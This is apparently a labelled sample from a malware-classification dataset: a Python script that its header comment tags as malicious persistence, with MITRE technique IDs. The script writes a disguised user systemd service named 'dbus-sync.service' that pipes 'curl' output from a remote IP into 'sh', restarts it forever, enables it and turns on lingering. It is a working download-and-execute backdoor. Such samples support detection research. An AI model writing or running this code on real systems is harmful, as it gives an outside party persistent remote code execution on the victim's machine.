# label: malicious family=persist techniques=T1059.004,T1105,T1543.002 lines=5-7
import os, subprocess
d = os.path.expanduser("~/.config/systemd/user")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "dbus-sync.service"), "w") as f:
    f.write("[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.230/s | sh'\nRestart=always\n[Install]\nWantedBy=default.target\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-sync.service"])
subprocess.run(["loginctl", "enable-linger", os.getenv("USER", "root")])
